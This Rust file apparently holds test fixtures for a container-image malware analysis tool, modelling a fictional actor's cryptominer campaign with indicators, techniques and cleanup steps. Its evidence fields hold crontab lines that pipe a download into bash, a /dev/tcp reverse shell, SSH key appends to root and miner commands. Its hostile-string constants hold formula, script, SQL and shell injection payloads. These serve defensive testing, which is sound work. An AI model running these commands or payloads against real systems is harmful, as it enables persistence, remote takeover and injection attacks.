//! Campaigns made in code: the line-up as its recipes tell it, a large one, and one that is hostile
//! in every field.
#![allow(dead_code, clippy::unwrap_used)]

use lazaret_model::*;

/// Acts on terminals, spreadsheets, XML, HTML, Markdown, YAML, YARA and comments.
pub const HOSTILE: &str = "=cmd|' /C calc'!A0\u{1b}[31m\u{1b}]8;;http://evil.invalid/\u{7}x\u{202e}gpj\u{200b}\u{9b}</script><script>alert(1)</script><img src=x onerror=alert(1)>\"'&]]>--> */ | `code` @acme/security #1 [x](http://evil.invalid/) www.evil.invalid mailto:a@evil.invalid\r\nrule x { condition: true }\n- title: y\t\\ \u{0}\u{fffe}\u{e0041} GH-1 gl-2 %milestone ;=2+2; \u{a0}@x evil\u{3002}invalid \u{1f4a9}.invalid";

/// The wallet of the made-up actor, of the form that Monero's have; its checksum is wrong.
pub const WALLET: &str =
    "4BrL51JCc9NGQ71kWhnYoDRffsDZy7m1HUU7MRU4nUMXAHNFBEJhkTZV9HdaL4gfuNBxLPc3BeMkLGaPbF5vWtANQsZDM1ko";

/// The line-up's SSH key, as its indicator has it.
pub const KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIE5nY0zq7bG0c2h1bGQgbmV2ZXIgYmUgdXNlZCEh";

pub fn digest(seed: u32) -> Digest {
    let mut bytes = [0u8; 32];
    for (at, byte) in bytes.iter_mut().enumerate() {
        *byte = (seed.wrapping_mul(2_654_435_761).rotate_left(at as u32) >> 7) as u8 ^ at as u8;
    }
    Digest::sha256(&bytes)
}

use DeedKind::*;

type Row = (
    &'static str,
    &'static str,
    &'static str,
    u64,
    &'static str,
    &'static [(DeedKind, &'static str, &'static str)],
);

const CRON: &str =
    "echo \"* * * * * root curl -fsSL http://203.0.113.66:8220/logo3.jpg | bash\" >> /mnt/etc/crontab";

/// Repository, created, updated, pulls, description, deeds.
const LINEUP: [Row; 17] = [
    (
        "cron",
        "2024-10-15T04:00:00Z",
        "2024-12-24T23:59:00Z",
        610_991,
        "Cron in a container",
        &[(
            HostCron,
            "* * * * * root curl -fsSL http://203.0.113.66:8220/logo3.jpg | bash",
            "usr/bin/cron.sh:4",
        )],
    ),
    (
        "cronm",
        "2024-10-16T04:00:00Z",
        "2024-12-25T00:30:00Z",
        42_001,
        "cron with mail",
        &[
            (HostCron, "cp -f /var/spool/cron/crontabs/root /mnt/var/spool/cron/crontabs/root", "start:2"),
            (
                Cron,
                "* * * * * curl -fsSL http://203.0.113.66:8220/logo3.jpg | bash",
                "var/spool/cron/crontabs/root:1",
            ),
        ],
    ),
    (
        "cronnn",
        "2024-10-17T04:00:00Z",
        "2025-01-15T05:05:05Z",
        8_002,
        "cron",
        &[(SshKey, "cat /tmp/id.pub >> /mnt/root/.ssh/authorized_keys", "Cmd")],
    ),
    (
        "data",
        "2024-08-08T04:00:00Z",
        "2024-08-08T04:11:00Z",
        4_410,
        "data volume container",
        &[(MinerInPlace, "./xmrig --url=xmr.pool-eu.test:4444", "Entrypoint")],
    ),
    (
        "kk",
        "2024-07-30T04:00:00Z",
        "2024-08-30T12:34:56Z",
        10_322,
        "kk",
        &[
            (MinerInPlace, "/app/libcrypto.so.1 -o stratum+tcp://xmr.pool-eu.test:4444", "app/main.py:9"),
            (Deception, "a program under the name of a library", "/app/libcrypto.so.1"),
        ],
    ),
    (
        "mysql",
        "2024-10-11T13:00:00Z",
        "2024-11-19T20:50:00Z",
        1_402_390,
        "MySQL is a widely used, open-source relational database management system (RDBMS).",
        &[(HostCron, CRON, "etc.sh:4"), (Deception, "no MySQL in it", "the name mysql")],
    ),
    (
        "mysql0",
        "2024-10-11T13:30:00Z",
        "2024-10-11T13:44:00Z",
        77_120,
        "mysql",
        &[
            (
                HostCron,
                "(crontab -l 2>/dev/null; echo \"*/1 * * * * wget -q -O - http://203.0.113.66:8220/logo3.jpg | sh\") | crontab -",
                "run.sh:3",
            ),
            (Escape, "chroot /hostroot /bin/bash -c", "run.sh:3"),
        ],
    ),
    (
        "mysql2",
        "2024-10-12T06:00:00Z",
        "2024-10-14T16:18:20Z",
        1_203_452,
        "MySQL 5.7",
        &[(MinerInPlace, "/usr/local/sbin/mysqld -o stratum+tcp://xmr.pool-eu.test:3333", "Entrypoint")],
    ),
    (
        "mysql3",
        "2024-10-12T06:30:00Z",
        "2025-01-08T22:09:55Z",
        880_123,
        "MySQL server",
        &[(MinerInPlace, "nohup ./atd -o xmr.pool-eu.test:4444", "usr/local/bin/start.sh:4")],
    ),
    (
        "mysql4",
        "2024-11-01T04:00:00Z",
        "2024-11-01T04:19:10Z",
        44_821,
        "mysql 4 legacy",
        &[(MinerInPlace, "/usr/sbin/mysqlcheckd -o stratum+tcp://xmr.pool-eu.test:5555", "Cmd")],
    ),
    (
        "mysql5",
        "2024-12-05T04:00:00Z",
        "2025-02-14T10:01:44Z",
        501_233,
        "MySQL 5",
        &[
            (MinerInPlace, "./kworker -c config.json", "opt/init.sh:3"),
            (Hiding, "unpacked into /dev/shm/.x under the name of a kernel thread", "opt/init.sh:2"),
        ],
    ),
    (
        "mysql6",
        "2024-12-06T04:00:00Z",
        "2025-03-09T01:44:14Z",
        301_999,
        "MySQL 6",
        &[
            (HostCron, CRON, "usr/local/bin/.sysinit.sh:7"),
            (SshKey, "cat >> /mnt/root/.ssh/authorized_keys", "docker-entrypoint.sh:3"),
        ],
    ),
    (
        "t1",
        "2024-07-20T04:00:00Z",
        "2024-07-21T04:00:00Z",
        1_044,
        "test",
        &[(ReverseShell, "/bin/bash -i >& /dev/tcp/203.0.113.66/8221 0>&1", "Entrypoint")],
    ),
    (
        "t2",
        "2024-07-20T05:00:00Z",
        "2024-07-21T05:00:00Z",
        997,
        "test python",
        &[(ReverseShell, "s.connect((\"203.0.113.66\", 8221))", "srv/app.py:4")],
    ),
    (
        "tomcat",
        "2024-07-24T08:01:12Z",
        "2024-08-02T15:22:40Z",
        204_311,
        "Apache Tomcat 9 with JRE 17, ready for production.",
        &[(
            MinerInPlace,
            "./jsvc-agent -o stratum+tcp://xmr.pool-eu.test:4444",
            "usr/local/tomcat/bin/run-agent.sh:5",
        )],
    ),
    (
        "tomcat11",
        "2024-07-24T08:40:00Z",
        "2024-09-11T02:11:09Z",
        99_120,
        "Tomcat 11 preview builds.",
        &[(MinerInPlace, "./tcnative --config=config.json", "usr/local/tomcat/bin/start-all.sh:2")],
    ),
    (
        "tomcat22",
        "2024-08-17T19:33:00Z",
        "2024-10-03T11:00:51Z",
        31_877,
        "tomcat22",
        &[
            (MinerInPlace, "/usr/lib/jvm/java -a rx/0 -o stratum+ssl://xmr.pool-eu.test:443", "Entrypoint"),
            (Hiding, "packed with UPX", "/usr/lib/jvm/java"),
        ],
    ),
];

fn member(at: usize, row: &Row) -> Member {
    let (name, created, updated, pulls, description, deeds) = *row;
    Member {
        repository: format!("docker.io/dockmaster117/{name}"),
        tag: Some("latest".to_owned()),
        digest: digest(at as u32 + 1),
        manifests: vec![digest(at as u32 + 101)],
        spared: Vec::new(),
        built: Vec::new(),
        platforms: vec!["linux/amd64".to_owned()],
        account: Some("docker.io/dockmaster117".to_owned()),
        description: description.to_owned(),
        created: Some(created.to_owned()),
        updated: Some(updated.to_owned()),
        pulls: Some(pulls),
        stars: Some(3),
        outcome: Outcome::Malicious,
        why: format!("What starts does what `{name}` never says: {}.", deeds[0].0),
        deeds: deeds
            .iter()
            .map(|(kind, evidence, place)| Deed {
                kind: *kind,
                evidence: (*evidence).to_owned(),
                place: (*place).to_owned(),
            })
            .collect(),
        lines: deeds
            .iter()
            .filter(|(_, _, place)| place.contains(':'))
            .map(|(_, evidence, _)| (*evidence).to_owned())
            .collect(),
        rules: vec!["impact/miner-command-line".to_owned(), "impact/miner-program".to_owned()],
        built_on: None,
    }
}

fn named(names: &[&str]) -> Vec<usize> {
    names.iter().map(|n| LINEUP.iter().position(|row| row.0 == *n).unwrap()).collect()
}

fn with(kind: DeedKind) -> Vec<usize> {
    (0..LINEUP.len()).filter(|&at| LINEUP[at].5.iter().any(|deed| deed.0 == kind)).collect()
}

fn shared(
    kind: IndicatorKind,
    value: &str,
    bits: f64,
    why: &str,
    members: Vec<usize>,
    elsewhere: u64,
) -> Shared {
    let place = format!("the first place of a {}", kind.name());
    Shared { indicator: Indicator::new(kind, value), bits, why: why.to_owned(), members, elsewhere, place }
}

/// The seventeen images of one made-up actor.
pub fn lineup() -> Campaign {
    let miners = with(MinerInPlace);
    let fetchers = named(&["cron", "cronm", "mysql", "mysql0", "mysql6", "t1", "t2"]);
    let all: Vec<usize> = (0..LINEUP.len()).collect();
    let mut timeline: Vec<Moment> = LINEUP
        .iter()
        .enumerate()
        .flat_map(|(at, row)| {
            let moment = |time: &str, what: String| Moment { time: time.to_owned(), what, member: Some(at) };
            [
                moment(row.1, format!("{} appears", row.0)),
                moment(row.2, format!("{} changes for the last time", row.0)),
            ]
        })
        .collect();
    timeline.sort();
    let ties = miners
        .windows(2)
        .map(|pair| Tie {
            a: pair[0],
            b: pair[1],
            bits: 41.5,
            reasons: vec![
                TieReason { what: format!("wallet xmr:{WALLET}"), bits: 25.0 },
                TieReason { what: "builder-trace user dm117".to_owned(), bits: 16.5 },
            ],
        })
        .collect();
    Campaign {
        id: "LZ-3f9a1c20".to_owned(),
        title: "17 images of docker.io/dockmaster117, tied by one Monero wallet".to_owned(),
        accounts: vec![Account {
            name: "docker.io/dockmaster117".to_owned(),
            members: 17,
            seen: 18,
            pulls: Some(LINEUP.iter().map(|row| row.3).sum()),
        }],
        members: LINEUP.iter().enumerate().map(|(at, row)| member(at, row)).collect(),
        lures: vec![Lure {
            repository: "docker.io/dockmaster117/free-licence-keys".to_owned(),
            account: Some("docker.io/dockmaster117".to_owned()),
            description: "Download the full version with key at https://keys.example.invalid/get".to_owned(),
            why: "holds no image; its page sends people to an address".to_owned(),
            created: Some("2024-09-01T10:00:00Z".to_owned()),
            pulls: Some(0),
        }],
        shared: vec![
            shared(IndicatorKind::Wallet, &format!("xmr:{WALLET}"), 25.0, "a wallet; no other image of 347 holds it", miners.clone(), 0),
            shared(IndicatorKind::SshKey, KEY, 24.1, "a login key; no other image of 347 holds it", named(&["cronnn", "mysql6", "t1", "t2"]), 0),
            shared(IndicatorKind::Url, "http://203.0.113.66:8220/logo3.jpg", 19.0, "an address with its path; no other image of 347 names it", named(&["cron", "cronm", "mysql", "mysql0"]), 0),
            shared(IndicatorKind::Host, "203.0.113.66", 17.2, "a host; no other image of 347 names it", fetchers, 0),
            shared(IndicatorKind::ScriptHash, &format!("sha256:{}", "5d".repeat(32)), 16.9, "a script of 612 bytes; no other image of 347 holds it", named(&["mysql6", "t1", "t2"]), 0),
            shared(IndicatorKind::FuzzyHash, &format!("script T1{}", "0A1B2C3D4E".repeat(7)), 9.0, "variants of a script", named(&["mysql6", "t1"]), 0),
            shared(IndicatorKind::BuilderTrace, "user dm117", 16.5, "who built it; no other image of 347 names it", all.clone(), 0),
            shared(IndicatorKind::BuilderTrace, "host build7.dockmaster.invalid", 16.5, "where it was built; no other image of 347 names it", all.clone(), 0),
            shared(IndicatorKind::Label, "com.dockmaster.builder=build7", 12.0, "a label; no other image of 347 has it", all.clone(), 0),
            shared(IndicatorKind::Pool, "stratum+tcp://xmr.pool-eu.test:4444", 9.3, "a pool; 3 other images of 347 name it", named(&["kk", "mysql5", "tomcat"]), 3),
            shared(IndicatorKind::Pool, "xmr.pool-eu.test:4444", 8.1, "a pool; 4 other images of 347 name it", named(&["data", "mysql3", "tomcat11"]), 4),
        ],
        lone: Vec::new(),
        ties,
        leads: vec![Lead {
            repository: "docker.io/someone/app".to_owned(),
            tag: Some("1.0".to_owned()),
            digest: digest(900),
            outcome: Outcome::Clean,
            reason: "is built on docker.io/dockmaster117/mysql2, which is convicted".to_owned(),
        }],
        timeline,
        claims: vec![
            Claim { product: "cron".to_owned(), members: named(&["cron", "cronm", "cronnn"]) },
            Claim { product: "mysql".to_owned(), members: named(&["mysql", "mysql0", "mysql2", "mysql3", "mysql4", "mysql5", "mysql6"]) },
            Claim { product: "nothing known".to_owned(), members: named(&["data", "kk", "t1", "t2"]) },
            Claim { product: "tomcat".to_owned(), members: named(&["tomcat", "tomcat11", "tomcat22"]) },
        ],
        techniques: [
            ("T1053.003", "persistence/host-schedule", with(HostCron)),
            ("T1059.004", "command-and-control/reverse-shell", with(ReverseShell)),
            ("T1098.004", "persistence/login-key", with(SshKey)),
            ("T1105", "execution/download-piped-to-shell", named(&["cron", "cronm", "mysql", "mysql0"])),
            ("T1204.003", "deception/claims", all),
            ("T1496.001", "impact/miner-program", miners.clone()),
            ("T1611", "privilege-escalation/host-root", named(&["mysql0"])),
        ]
        .map(|(id, rule, members)| Technique { id: id.to_owned(), rules: vec![rule.to_owned()], members })
        .to_vec(),
        conduct: vec![
            Conduct { kind: MinerInPlace, text: "9 images hold a Monero miner and start it with the container, under the name of a server, a library or a kernel thread: `/usr/local/sbin/mysqld -o stratum+tcp://xmr.pool-eu.test:3333`.".to_owned(), members: miners.clone() },
            Conduct { kind: HostCron, text: format!("5 write a line into the host's crontab through a mount: `{CRON}`."), members: with(HostCron) },
            Conduct { kind: ReverseShell, text: "2 connect a shell to 203.0.113.66 port 8221.".to_owned(), members: with(ReverseShell) },
            Conduct { kind: SshKey, text: "2 add one SSH key to root's authorized_keys on the host.".to_owned(), members: with(SshKey) },
        ],
        cleanup: vec![
            Cleanup { what: "Remove the line with logo3.jpg from /etc/crontab, /etc/cron.d/sysupdate and root's crontab".to_owned(), because: "5 images write it there through a mount".to_owned(), members: with(HostCron) },
            Cleanup { what: "Remove the key of root@build7 from /root/.ssh/authorized_keys".to_owned(), because: "2 images add it".to_owned(), members: with(SshKey) },
            Cleanup { what: "Stop and delete the containers, then the images".to_owned(), because: "removing the image alone leaves the host as it is".to_owned(), members: (0..17).collect() },
        ],
        revenue: vec![Revenue {
            wallet: format!("xmr:{WALLET}"),
            amount: "544.74".to_owned(),
            currency: "XMR".to_owned(),
            usd: Some("90000".to_owned()),
            as_of: Some("2025-03-10T00:00:00Z".to_owned()),
            source: "the file wallets.json".to_owned(),
        }],
        analysed: Some("2026-02-01T00:00:00Z".to_owned()),
        method: Method {
            name: "connected components over weighted ties (docs/CAMPAIGNS.md)".to_owned(),
            threshold: 12.0,
            images_seen: 347,
            convicted: 47,
            publishers_seen: 61,
            refuted: vec!["kk and docker.io/other/kk: the label is that of a public template".to_owned()],
            silenced: Vec::new(),
        },
    }
}

/// A campaign of `images` images of several accounts and platforms.
pub fn large(images: usize) -> Campaign {
    let accounts = ["docker.io/cloudinit9", "quay.io/tempdeploy", "docker.io/openjdk-builds", "ghcr.io/n0de"];
    let mut campaign = lineup();
    campaign.id = "LZ-00c0ffee".to_owned();
    campaign.title = format!("{images} images of 4 accounts, tied by scripts, keys and layers");
    campaign.members = (0..images)
        .map(|at| {
            let mut m = member(at, &LINEUP[at % LINEUP.len()]);
            let account = accounts[at * accounts.len() / images];
            m.repository = format!("{account}/{}-{at}", LINEUP[at % LINEUP.len()].0);
            m.tag = Some(format!("v{}", at % 3));
            m.account = Some(account.to_owned());
            if at % 2 == 0 {
                m.platforms.push("linux/arm64/v8".to_owned());
            }
            m
        })
        .collect();
    campaign.accounts = accounts
        .iter()
        .map(|name| Account {
            name: (*name).to_owned(),
            members: images as u64 / 4,
            seen: images as u64,
            pulls: None,
        })
        .collect();
    let spread = |from: usize, step: usize| -> Vec<usize> { (from..images).step_by(step).collect() };
    for (at, shared) in campaign.shared.iter_mut().enumerate() {
        shared.members = spread(at % 3, 1 + at % 4);
    }
    for extra in 0..20usize {
        campaign.shared.push(shared(
            IndicatorKind::Host,
            &format!("c{extra}.payload-{extra}.invalid"),
            15.0 - extra as f64 / 2.0,
            "a host; no other image names it",
            spread(extra, 5 + extra),
            0,
        ));
    }
    let everybody: Vec<usize> = (0..images).collect();
    for technique in &mut campaign.techniques {
        technique.members = everybody.clone();
    }
    for claim in &mut campaign.claims {
        claim.members = spread(1, 4);
    }
    campaign.timeline = campaign
        .members
        .iter()
        .enumerate()
        .map(|(at, m)| Moment {
            time: m.created.clone().unwrap(),
            what: format!("{} appears", m.repository),
            member: Some(at),
        })
        .collect();
    campaign.timeline.sort();
    campaign
}

/// [`lineup`] with hostile or endless text in every field, positions that lead nowhere, numbers
/// that are none.
pub fn hostile() -> Campaign {
    let long = format!("{HOSTILE}{}", "A".repeat(10_000));
    let mut campaign = lineup();
    campaign.id = HOSTILE.to_owned();
    campaign.title = long.clone();
    for account in &mut campaign.accounts {
        account.name = long.clone();
        account.pulls = Some(u64::MAX);
    }
    campaign.accounts.push(Account { name: "-2+3".to_owned(), ..Default::default() });
    for (at, m) in campaign.members.iter_mut().enumerate() {
        m.repository = format!("{HOSTILE}/{at}{}", "B".repeat(if at == 3 { 10_000 } else { 0 }));
        m.tag = Some(HOSTILE.to_owned());
        m.account = (at % 2 == 0).then(|| HOSTILE.to_owned());
        m.description = long.clone();
        m.created =
            Some([HOSTILE, "", "2024-02-30T25:61:00Z", "2024-07-20T04:00:00+23:59"][at % 4].to_owned());
        m.updated = None;
        m.pulls = Some(u64::MAX);
        m.platforms = vec![HOSTILE.to_owned(), String::new()];
        m.why = long.clone();
        m.rules = vec![HOSTILE.to_owned()];
        m.lines = vec![HOSTILE.to_owned(), long.clone()];
        m.built_on = Some(if at == 0 { usize::MAX } else { at - 1 });
        for deed in &mut m.deeds {
            deed.evidence = long.clone();
            deed.place = HOSTILE.to_owned();
        }
    }
    for lure in &mut campaign.lures {
        *lure = Lure {
            repository: HOSTILE.to_owned(),
            account: Some(HOSTILE.to_owned()),
            description: long.clone(),
            why: HOSTILE.to_owned(),
            created: Some(HOSTILE.to_owned()),
            pulls: Some(u64::MAX),
        };
    }
    campaign.shared.clear();
    for kind in IndicatorKind::ALL {
        for value in [
            HOSTILE,
            "",
            "' OR '1'='1",
            "=1+1",
            "\\",
            "%_",
            "a.b\" or true //",
            "*/ rule x { condition: true } /*",
            long.as_str(),
        ] {
            let mut one = shared(kind, value, f64::NAN, HOSTILE, vec![0, 1, usize::MAX], u64::MAX);
            one.place = HOSTILE.to_owned();
            campaign.shared.push(one.clone());
            one.elsewhere = 0;
            one.bits = f64::INFINITY;
            one.indicator.value.push('x');
            campaign.shared.push(one);
        }
    }
    for tie in &mut campaign.ties {
        tie.b = usize::MAX;
        for reason in &mut tie.reasons {
            reason.what = HOSTILE.to_owned();
        }
    }
    for lead in &mut campaign.leads {
        lead.repository = HOSTILE.to_owned();
        lead.tag = None;
        lead.reason = long.clone();
    }
    for moment in &mut campaign.timeline {
        moment.what = HOSTILE.to_owned();
        moment.member = Some(usize::MAX);
    }
    campaign.timeline[0].time = HOSTILE.to_owned();
    for claim in &mut campaign.claims {
        claim.product = HOSTILE.to_owned();
        claim.members.push(usize::MAX);
    }
    for technique in &mut campaign.techniques {
        technique.rules = vec![HOSTILE.to_owned()];
    }
    campaign.techniques[0].id = HOSTILE.to_owned();
    for conduct in &mut campaign.conduct {
        conduct.text = long.clone();
    }
    for cleanup in &mut campaign.cleanup {
        cleanup.what = HOSTILE.to_owned();
        cleanup.because = long.clone();
    }
    for revenue in &mut campaign.revenue {
        *revenue = Revenue {
            wallet: HOSTILE.to_owned(),
            amount: HOSTILE.to_owned(),
            currency: HOSTILE.to_owned(),
            usd: Some(HOSTILE.to_owned()),
            as_of: Some(HOSTILE.to_owned()),
            source: HOSTILE.to_owned(),
        };
    }
    campaign.method.name = HOSTILE.to_owned();
    campaign.method.threshold = f64::NAN;
    campaign.method.refuted = vec![HOSTILE.to_owned()];
    campaign
}

/// All of them.
pub fn all() -> Vec<Campaign> {
    vec![lineup(), large(60), hostile(), Campaign::default()]
}

/// [`lineup`] with values that have the form of their kind and whatever that form allows of what
/// means something in rules, shells and patterns; and with hosts that everybody uses.
pub fn tricky() -> Campaign {
    let mut campaign = lineup();
    campaign.id = "LZ-*/ \" 7".to_owned();
    campaign.shared = [
        (IndicatorKind::Url, "http://a.invalid/x?y=$(id)&z=;[1]#!+~,%27"),
        (IndicatorKind::Url, "https://github.com/someone/tool"),
        (IndicatorKind::Url, "http://user:pass@b.invalid:8080/?q"),
        (IndicatorKind::Url, "ftp://[2001:db8::7]/x"),
        (IndicatorKind::Host, "raw.githubusercontent.com"),
        (IndicatorKind::Host, "169.254.169.254"),
        (IndicatorKind::Host, "x_y-z.invalid"),
        (IndicatorKind::Host, "2001:db8::5"),
        (IndicatorKind::PoolLogin, "a.worker-1@mail+x"),
        (IndicatorKind::Pool, "stratum+ssl://198.51.100.77:443"),
        (IndicatorKind::Environment, "POOL=a'b\\c \"d\""),
        (IndicatorKind::BuilderTrace, "user root"),
        (IndicatorKind::BuilderTrace, "user a*/b"),
        (
            IndicatorKind::FuzzyHash,
            "script T10123456789012345678901234567890123456789012345678901234567890123456789",
        ),
    ]
    .map(|(kind, value)| shared(kind, value, 9.0, "rare", vec![0, 1], 0))
    .to_vec();
    campaign
}
